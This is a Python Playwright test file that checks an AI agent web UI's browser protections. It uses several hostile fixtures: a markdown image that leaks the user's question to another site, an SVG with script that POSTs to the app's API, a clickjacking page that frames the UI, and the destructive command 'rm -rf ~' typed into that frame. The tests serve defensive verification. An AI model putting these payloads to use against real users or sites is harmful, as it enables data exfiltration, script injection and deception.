"""What the browser keeps from model-written content and from other sites, in real Chromium
(docs/security.md, "Browser protections"): a remote image in an answer loads nothing, live
or reopened; a previewed SVG runs no script, in the preview or opened in a tab; another
site cannot frame the UI."""

from __future__ import annotations

import contextlib
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx
from playwright.sync_api import Page, Request, expect

from tests.agent.scripts import finish, plan_reply, write
from tests.e2e.server import Server
from tests.fakellm import FakeModelServer
from tests.support.ui import conversation_id, model_called, send_goal

NewPage = Callable[..., Page]

ALL_IMAGES_SETTLED = "() => Array.from(document.images).every((i) => i.complete)"


@dataclass
class Site:
    """A web server on another port: it serves `pages` and records every path asked."""

    url: str
    pages: dict[str, str]
    requests: list[str] = field(default_factory=list)


@contextlib.contextmanager
def other_site(pages: dict[str, str] | None = None) -> Iterator[Site]:
    site = Site("", dict(pages or {}))

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            site.requests.append(self.path)
            body = site.pages.get(self.path.split("?", 1)[0])
            data = (body or "not here").encode()
            self.send_response(200 if body is not None else 404)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    site.url = f"http://127.0.0.1:{httpd.server_address[1]}"
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield site
    finally:
        httpd.shutdown()
        httpd.server_close()
        thread.join(10)


def test_a_remote_image_in_an_answer_loads_nothing_live_or_reopened(
    ui_server: Server, fake_model: FakeModelServer, new_page: NewPage
) -> None:
    with other_site() as site:
        leak = f"{site.url}/leak?d=what-the-user-asked"
        # the first three of four chunks hold the image; the answer stops there until released
        answer = f"Here is your chart: ![the chart]({leak}) After the image.\n\n" + (
            "The rest of a long answer. " * 12
        )
        fake_model.script(
            {
                "stage": "auto_reply",
                "content": answer,
                "chunks": 4,
                "hold": "rest",
                "hold_after": 3,
            }
        )
        page = new_page()
        page.goto(ui_server.url)
        send_goal(page, "what-the-user-asked", mode="chat")
        model_called(fake_model, "auto_reply")
        live = page.locator('[data-testid="auto-reply"][data-live="1"]')
        expect(live).to_contain_text("After the image.")
        page.wait_for_function(ALL_IMAGES_SETTLED)  # whatever an <img> asks, it has asked
        assert site.requests == []
        link = live.locator("a.remote-image")
        expect(link).to_have_attribute("href", leak)
        expect(link).to_have_text("Image: the chart")

        fake_model.release("rest")
        reply = page.get_by_test_id("auto-reply")
        expect(reply).not_to_have_attribute("data-live", "1")
        expect(reply).to_contain_text("The rest of a long answer.")
        cid = conversation_id(page)

        reopened = new_page()
        reopened.goto(f"{ui_server.url}/#/c/{cid}")
        stored = reopened.get_by_test_id("auto-reply")
        expect(stored).to_contain_text("The rest of a long answer.")
        reopened.wait_for_function(ALL_IMAGES_SETTLED)
        reopened.wait_for_load_state("networkidle")
        assert site.requests == []
        expect(stored.locator("img")).to_have_count(0)
        expect(stored.locator("a.remote-image")).to_have_attribute("href", leak)


def test_a_previewed_html_page_keeps_its_style_but_loads_nothing_remote(
    ui_server: Server, fake_model: FakeModelServer, new_page: NewPage
) -> None:
    with other_site() as site:
        page_html = (
            "<!doctype html><style>h1 { color: rgb(1, 2, 3) }</style><h1>Report</h1>"
            f'<img src="{site.url}/leak?d=the-report">'
        )
        fake_model.script(
            {"stage": "planning", "content": plan_reply("Write")},
            {"stage": "thinking", "content": write("report.html", page_html) + finish("ok")},
            {"stage": "summary", "content": "A report."},
        )
        page = new_page()
        page.goto(ui_server.url)
        send_goal(page, "Write a report")
        page.get_by_test_id("summary").get_by_test_id("file-preview").filter(
            has_text="report.html"
        ).click()
        frame = page.frame_locator("[data-testid=html-preview]")
        heading = frame.locator("h1")
        expect(heading).to_have_css("color", "rgb(1, 2, 3)")  # the page's own style applies
        # the image has loaded or failed: whatever it asks, it has asked
        expect(frame.locator("img")).to_have_js_property("complete", True)
        page.wait_for_load_state("networkidle")
        assert site.requests == []


EVIL_SVG = """<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"
  onload="window.__pwned = (window.__pwned || '') + ' onload'; go()">
<rect width="40" height="20" fill="teal"/>
<script>
window.__pwned = (window.__pwned || '') + ' script';
function go() {
  fetch('SERVER/api/conversations', {method: 'POST',
    headers: {'Content-Type': 'application/json'}, body: '{"title": "made by an svg"}'})
}
go();
</script>
</svg>
"""


def test_a_previewed_svg_runs_no_script_in_the_preview_or_in_a_tab(
    ui_server: Server, fake_model: FakeModelServer, new_page: NewPage
) -> None:
    svg = EVIL_SVG.replace("SERVER", ui_server.url)
    fake_model.script(
        {"stage": "planning", "content": plan_reply("Draw")},
        {"stage": "thinking", "content": write("logo.svg", svg) + finish("Drew it.")},
        {"stage": "summary", "content": "A logo."},
    )
    page = new_page()
    posts: list[str] = []

    def on_request(r: Request) -> None:
        if r.method == "POST" and r.url.endswith("/api/conversations"):
            posts.append(r.url)

    page.context.on("request", on_request)
    page.goto(ui_server.url)
    send_goal(page, "Draw a logo")
    summary = page.get_by_test_id("summary")
    summary.get_by_test_id("file-preview").filter(has_text="logo.svg").click()
    img = page.get_by_test_id("preview").locator("img")
    expect(img).to_be_visible()
    # the drawing still shows: 40 pixels wide
    page.wait_for_function("(i) => i.complete && i.naturalWidth === 40", arg=img.element_handle())
    page.wait_for_load_state("networkidle")
    assert page.evaluate("() => window.__pwned") is None

    # "open image in new tab": the preview's own address, as a page of its own
    src = img.get_attribute("src")
    assert src
    tab = page.context.new_page()
    tab.goto(src)
    tab.wait_for_load_state("networkidle")
    assert tab.evaluate("() => window.__pwned") is None
    assert posts == []
    titles = [c["title"] for c in httpx.get(f"{ui_server.url}/api/conversations").json()]
    assert titles == ["Draw a logo"]
    tab.close()


FRAMING_PAGE = """<!doctype html><meta charset="utf-8"><title>a game</title>
<p>Click the big button to win!</p>
<iframe id="planact" src="PLANACT/" width="900" height="600"></iframe>
"""


def test_another_site_cannot_frame_the_ui(
    ui_server: Server, fake_model: FakeModelServer, new_page: NewPage
) -> None:
    page_html = FRAMING_PAGE.replace("PLANACT", ui_server.url)
    with other_site({"/game.html": page_html}) as site:
        page = new_page()
        seen: list[str] = []
        page.on(
            "response",
            lambda r: (
                seen.append(r.headers.get("content-security-policy", ""))
                if r.url == f"{ui_server.url}/"
                else None
            ),
        )
        page.goto(f"{site.url}/game.html")  # waits for the frame's load event too
        framed = page.frame_locator("#planact")
        # Chromium shows its error page in the frame, not planact's document
        assert framed.locator("#app").count() == 0
        assert framed.get_by_test_id("goal-input").count() == 0
        frame = next(f for f in page.frames if f != page.main_frame)
        assert not frame.url.startswith(ui_server.url)
        assert seen and "frame-ancestors 'none'" in seen[0]  # planact did answer the frame
        # the clicks and keys a deceived user gives the frame start nothing
        page.locator("#planact").click()
        page.keyboard.type("rm -rf ~")
        page.keyboard.press("Enter")
        page.wait_for_load_state("networkidle")
    assert httpx.get(f"{ui_server.url}/api/conversations").json() == []
    assert fake_model.model.calls == []
